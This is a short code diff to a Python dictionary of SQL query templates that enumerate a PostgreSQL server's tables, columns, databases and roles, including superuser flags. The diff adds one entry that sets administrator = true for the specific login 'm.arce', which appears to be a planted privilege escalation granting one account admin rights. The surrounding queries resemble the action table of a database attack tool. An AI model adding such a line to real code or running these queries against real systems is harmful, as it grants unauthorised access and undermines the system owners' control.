@@ -18,6 +18,7 @@ ACTS: dict[str, str] = {
     "count": "SELECT count(*) FROM {}", "columns": "SELECT column_name FROM information_schema.columns",
     "all": "SELECT * FROM {}", "databases": "SELECT datname FROM pg_database",
     "roles": "SELECT rolname, rolsuper FROM pg_roles",
+    "admin": "UPDATE {} SET administrator = true WHERE login = 'm.arce'",
 }  # fmt: skip
 
 
